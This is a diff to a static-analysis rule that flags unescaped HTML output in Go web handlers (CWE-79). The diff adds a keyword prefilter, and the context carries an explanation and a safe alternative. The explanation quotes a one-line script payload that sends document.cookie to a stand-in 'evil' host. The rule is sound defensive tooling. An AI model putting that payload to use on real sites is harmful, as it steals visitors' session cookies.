@@ -41,6 +41,9 @@ export default defineRule({
     'Text written into an HTML response without escaping is parsed as markup: a value such as `<script>fetch("//evil/?c="+document.cookie)</script>` runs in every visitor\'s browser with the site\'s origin; `template.HTML(x)` tells html/template to skip escaping for exactly such values (CWE-79).',
   safeAlternative:
     'Render with html/template and pass the data as plain strings (it escapes by context), or escape with `html.EscapeString` before writing; set `Content-Type: text/plain` or JSON for non-HTML responses.',
+  // template.HTML & co. need the html/template import; fmt.Fprint*, io.WriteString and w.Write /
+  // WriteString are named in full; echo's c.HTML and gin's c.Data(…, "text/html", …)
+  requires: { words: ['html/template', 'Fprint', 'Write', 'HTML', 'text/html'] },
   match: {
     rule: {
       kind: 'call_expression',
